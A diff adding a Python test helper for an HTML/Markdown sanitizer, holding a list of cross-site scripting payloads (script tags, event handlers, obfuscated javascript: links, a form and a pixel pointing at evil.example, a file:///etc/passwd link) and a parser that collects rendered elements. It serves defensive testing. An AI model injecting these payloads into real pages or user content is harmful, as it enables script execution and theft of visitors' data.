@@ -1,0 +1,47 @@
+"""What an attacker would write, and what a browser would make of the answer."""
+
+from html.parser import HTMLParser
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<style>*{display:none}</style>",
+    "<form action=https://evil.example><input name=p></form>",
+    "</p></div></body><h1 onclick=alert(1)>x",
+    "<!--><script>alert(1)</script>-->",
+    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java&#115;cript:alert(1))",
+    "[x](java&Tab;script:alert(1))",
+    "[x](<java\tscript:alert(1)>)",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](file:///etc/passwd)",
+    "<javascript:alert(1)>",
+    "![x](https://evil.example/pixel.png)",
+    "![x](javascript:alert(1))",
+    '[x](https://example.org "a\\"onmouseover=alert(1) b")',
+    '[x](https://example.org/"onmouseover="alert(1))',
+    "[x]: javascript:alert(1)\n\n[x]",
+    "`<script>alert(1)</script>`",
+    "```<script>\nalert(1)\n```",
+    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
+    "# <b onclick=alert(1)>x</b>",
+    "<b>\u202eevil\u202c</b>",
+]
+
+
+class Elements(HTMLParser):
+    """Every element with its attributes, as a browser would find them."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.found: list[tuple[str, dict[str, str | None]]] = []
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.found.append((tag, dict(attrs)))
